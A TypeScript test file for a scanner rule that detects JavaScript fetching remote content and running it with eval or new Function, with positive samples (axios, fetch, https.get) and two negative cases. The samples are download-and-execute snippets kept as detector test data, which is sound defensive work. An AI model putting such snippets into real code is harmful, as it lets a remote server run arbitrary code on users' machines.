import { testFileRule } from '../../test/rule-cases.ts';
import { evalDownload } from './eval-download.ts';

testFileRule(evalDownload, [
  {
    name: 'axios',
    text: `const axios = require('axios'); axios.get('https://api.example/v1').then((res) => eval(res.data.cookie))`,
    tier: 'review',
  },
  {
    name: 'fetch',
    text: `fetch('https://a.example').then((r) => r.text()).then((text) => { new Function('require', text)(require) })`,
    tier: 'review',
  },
  {
    name: 'awaited',
    text: `const r = await fetch('https://a.example'); const body = await r.text(); eval(body)`,
    tier: 'review',
  },
  {
    name: 'with a constructor in a handler',
    text: `require('https').get('https://a.example', (r) => { let data = ''; r.on('data', (c) => (data += c)); r.on('end', () => Function('require', data)(require)); })`,
    tier: 'review',
  },
  {
    name: 'a request and a template in one file',
    text: `fetch('https://a.example'); const f = new Function('return 1')`,
    tier: null,
  },
  { name: 'eval without network', text: `eval(data)`, tier: null },
]);
